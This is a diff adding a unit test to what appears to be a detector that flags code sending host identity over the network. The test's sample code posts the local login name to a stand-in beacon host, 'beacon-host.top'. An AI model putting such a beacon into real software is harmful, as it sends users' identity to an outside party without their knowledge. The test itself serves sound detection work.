@@ -868,3 +868,14 @@ def test_login_name_posted_to_a_plain_http_address_is_high_over_tls_or_to_this_h
     )
     assert _by_line("host-identity-sent-over-network", "t.py", text) == {
         4: "high", 5: "high", 6: "medium", 7: "medium", 8: "medium", 9: "medium"}
+
+
+def test_a_helper_reached_from_several_call_sites_is_judged_by_the_gravest():
+    # a beacon through a helper, then a benign call of the same helper: the later, milder verdict must not hide it
+    text = (
+        "import getpass, requests\n"
+        "def send(u, d):\n    return requests.post(u, data=d)\n"
+        "send('http://beacon-host.top/p', {'u': getpass.getuser()})\n"
+        "send('https://api.example.com/p', {'u': getpass.getuser()})\n"
+    )
+    assert _by_line("host-identity-sent-over-network", "h.py", text) == {3: "high"}
